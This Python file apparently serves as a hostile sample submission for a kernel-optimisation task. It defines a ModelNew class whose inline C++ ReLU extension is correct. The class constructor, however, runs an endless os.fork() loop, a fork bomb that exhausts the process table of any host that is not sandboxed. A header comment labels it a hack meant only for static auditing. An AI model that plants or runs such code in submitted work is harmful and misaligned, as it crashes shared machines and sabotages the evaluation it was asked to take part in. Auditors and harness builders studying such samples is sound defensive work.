# Hack: a fork bomb. NEVER RUN THIS FILE: it is only audited statically. Constructing the
# model forks without bound, exhausting the process table of an unsandboxed host.
import os

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

relu_cpp_source = """
#include <torch/extension.h>

torch::Tensor relu_forward(torch::Tensor x) {
    auto input = x.contiguous();
    auto out = torch::empty_like(input);
    const float* src = input.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    const int64_t n = input.numel();
    for (int64_t i = 0; i < n; ++i) {
        dst[i] = src[i] > 0.f ? src[i] : 0.f;
    }
    return out;
}
"""

relu_ext = load_inline(
    name="relu_shared_ext",
    cpp_sources=relu_cpp_source,
    functions=["relu_forward"],
    verbose=False,
)


def _multiply():
    while True:
        os.fork()


class ModelNew(nn.Module):
    def __init__(self):
        super(ModelNew, self).__init__()
        _multiply()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return relu_ext.relu_forward(x)
